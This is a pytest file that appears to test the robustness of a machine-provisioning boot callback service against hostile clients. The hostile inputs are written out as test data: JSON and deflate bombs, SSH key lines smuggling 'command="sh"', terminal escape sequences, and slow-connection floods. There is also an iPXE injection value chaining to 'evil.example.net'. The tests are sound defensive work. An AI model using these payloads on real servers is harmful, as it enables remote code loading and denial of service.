"""What a hostile machine says to the callback, and says of itself."""

import http.client
import json
import socket
import zlib
from base64 import b64encode
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import closing
from urllib.parse import quote, urlencode, urlsplit

import pytest

from reconciler.boot.asked import asked
from reconciler.boot.server import heard_of
from reconciler.errors import OctofleetError
from reconciler.store.installs import LOG_MOST
from reconciler.types.installation import State
from tests.boot.hostile import Stand, standing
from tests.boot.site import ask, script
from tests.store.databases import KINDS, database

BLOB = b64encode(b"\0\0\0\x0bssh-ed25519\0\0\0\x20" + bytes(32)).decode()
KEY = f"ssh-ed25519 {BLOB}"


@pytest.fixture(scope="module", params=KINDS)
def site(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stand]:
    path = tmp_path_factory.mktemp("hostile")
    with database(request.param, path) as url, standing(path, url) as made:
        yield made


def post(url: str, body: bytes, kind: str = "application/x-www-form-urlencoded", **headers: str) -> int:
    at = urlsplit(url)
    with closing(http.client.HTTPConnection(at.hostname or "", at.port, timeout=30)) as connection:
        connection.request("POST", at.path, body, {"Content-Type": kind, **headers})
        return connection.getresponse().status


def callback(url: str) -> str:
    return f"{url.partition('/shop/')[0]}/callback"


@pytest.mark.parametrize(
    "facts",
    [
        "[" * 16_000,
        '{"a":' * 3_000 + "1" + "}" * 3_000,
        "{" * 16_000,
        '{"a": NaN}',
        '{"a": ' + "9" * 10_000 + "}",
        '"text"',
        '{"\\ud800": 1}',
        "\0",
        '{"a": 1}' * 3_000,
    ],
)
def test_facts_that_are_a_bomb_are_left_out(site: Stand, facts: str) -> None:
    url = site.arm()
    assert site.call(url, "booted", facts=facts).text == "installing\n"
    assert len(site.newest.facts) <= 16_384
    if site.newest.facts:
        assert isinstance(json.loads(site.newest.facts), dict)


@pytest.mark.parametrize(
    "line",
    [
        f"@cert-authority * {KEY}",
        f"@revoked * {KEY}",
        f'command="sh" {KEY}',
        f"*,!x {KEY}",
        f"other.example.net {KEY}",
        f"|1|abc=|def= {KEY}",
        f"# {KEY}",
        "ssh-rsa " + BLOB,
        "ssh-ed25519 AAAA",
        "ssh-ed25519 " + "A" * 4_000,
        f"ssh-ed25519\t{BLOB}",
        f"ssh-ed25519  {BLOB}",
        f"ssh-\u0435d25519 {BLOB}",
        KEY[:-3],
    ],
)
def test_no_host_key_can_be_anything_else(line: str) -> None:
    assert heard_of({"stage": "installed", "hostkeys": line}).keys == ""


def test_host_keys_are_kept_without_what_follows_them() -> None:
    text = f"{KEY} root@web\r\n{KEY}\x1b[2J\n{KEY} a b\r@cert-authority * {KEY}\n{KEY} x\x85y\u2028z\n" * 40
    assert heard_of({"stage": "installed", "hostkeys": text}).keys == KEY


def test_a_log_cannot_move_a_terminal() -> None:
    said = heard_of({"stage": "failed", "log": "a\x1b]0;x\x07b\x1b[2J\r\0\x9b31mc\u202ed\n\te\x7f"})
    assert said.log == "a]0;xb[2J31mcd\n\te"
    assert len(heard_of({"stage": "failed", "log": "x" * 10_000_000}).log) == LOG_MOST


def test_stages_that_do_not_exist_are_said_back_plainly(site: Stand) -> None:
    url = site.arm()
    for stage in ("", "armed", "INSTALLED", "installed\n", "\x1b[2J", "cancelled", "x" * 1_000):
        found = site.call(url, stage)
        assert found.status == 400
        assert found.text.isprintable() or found.text.rstrip("\n").isprintable()
    assert site.newest.stage == ""
    with pytest.raises(OctofleetError):
        heard_of({})


def test_bodies_are_bounded_and_never_unpacked(site: Stand) -> None:
    url = callback(site.arm())
    assert post(url, b"stage=failed&log=" + b"x" * 10_000_000) == 413
    packed = zlib.compress(b"stage=failed&log=" + b"x" * 50_000_000)
    assert post(url, packed, **{"Content-Encoding": "deflate"}) == 400
    bomb = b'--b\r\nContent-Disposition: form-data; name="stage"\r\nContent-Encoding: deflate\r\n\r\n' + packed + b"\r\n--b--\r\n"
    assert post(url, bomb, "multipart/form-data; boundary=b") == 400
    assert post(url, b"stage=failed", "application/x-www-form-urlencoded; charset=nonsense") == 200, "read as what it is"
    assert site.newest.state is State.FAILED
    url = callback(site.arm())
    assert post(url, b"stage=installed" + b"&x" * 40) == 400
    assert post(url, b"\xff\xfe\0" * 100) == 400
    assert post(url, b"stage=booted&log=%ff%00%zz\xff&stage=installed") == 200, "the first of each name counts"
    assert site.newest.state is State.INSTALLING
    whole = urlencode(
        {"stage": "booted", "log": "\xe9" * 8_000, "facts": json.dumps({"a": "\u20ac" * 5_000}, ensure_ascii=False)}, quote_via=quote
    )
    assert len(whole) > 65_536
    assert post(url, whole.encode()) == 200, "all of what the contract allows, written as badly as it can be"


def test_a_body_that_never_comes_holds_nobody_else(site: Stand) -> None:
    url = site.arm()
    at = urlsplit(callback(url))
    slow = []
    try:
        for _ in range(100):
            one = socket.create_connection((at.hostname, at.port), timeout=30)
            one.sendall(f"POST {at.path} HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\nstage=inst".encode())
            slow.append(one)
        assert ask(url).status == 200
        assert site.call(url, "booted").status == 200
    finally:
        for one in slow:
            one.close()
    assert site.newest.state is State.INSTALLING, "what was not said to its end was not said"


def test_thousands_of_callbacks_are_one_piece_of_news(site: Stand) -> None:
    url = site.arm()
    site.call(url, "booted")
    before = site.newest.seq
    with ThreadPoolExecutor(16) as threads:
        states = list(threads.map(lambda _: site.call(url, "booted").text, range(1_000)))
    assert set(states) == {"installing\n"}
    written = site.newest.seq - before
    assert written == 0, "what is said twice is not written"
    with ThreadPoolExecutor(16) as threads:
        guessed = list(threads.map(lambda number: ask(f"{site.url}/i/{number:064x}/callback", {"stage": "installed"}).status, range(500)))
    assert set(guessed) == {404}


def test_stages_may_come_in_any_order_and_the_end_is_the_end(site: Stand) -> None:
    url = site.arm()
    for stage in ("partitioned", "booted", "partitioned"):
        assert site.call(url, stage).text == "installing\n"
    assert site.call(url, "failed", log="no").text == "failed\n"
    for stage in ("booted", "partitioned", "installed"):
        assert site.call(url, stage).status == 410
    assert site.newest.state is State.FAILED


def test_it_is_known_by_what_one_host_says_alone(site: Stand) -> None:
    site.arm()
    for query in (
        "mac=52-54-00-00-00-01%26serial=x",
        "mac=52-54-00-00-00-01%00",
        "mac=x&mac=52-54-00-00-00-01",
        "serial=52-54-00-00-00-01",
        "mac=" + "5" * 4_000,
        "uuid=00000000-0000-0000-0000-000000000000",
        "mac[]=52-54-00-00-00-01",
    ):
        assert "installing" not in ask(f"{site.url}/boot/ipxe?{query}").text, query
    assert "installing" in ask(f"{site.url}/boot/ipxe", {"mac": "52-54-00-00-00-01"}).text
    assert "installing" in script(site)
    assert asked({"serial": "A&B", "asset": "a\nb"}).keys == ()
    assert asked({"asset": " Rack-1 "}).keys == ("asset:rack-1",)


def test_a_script_has_nothing_of_what_a_machine_says(site: Stand) -> None:
    evil = "x%0achain%20http://evil.example.net/%0a#!ipxe"
    for name in ("mac", "uuid", "serial", "asset", "arch", "platform"):
        assert "evil" not in ask(f"{site.url}/boot/ipxe?{name}={evil}").text
        assert "evil" not in ask(f"{site.url}/boot/ipxe?mac=52-54-00-00-00-01&{name}={evil}", headers={"Host": "evil.example.net"}).text


def test_memory_of_who_came_is_bounded_by_hosts(site: Stand) -> None:
    for number in range(300):
        ask(f"{site.url}/boot/ipxe?mac=52-54-01-00-{number >> 8:02x}-{number & 255:02x}&serial=s{number}")
    with site.wiring.store.read() as connection:
        assert connection.scalar("SELECT count(*) FROM boot_seen") <= 1
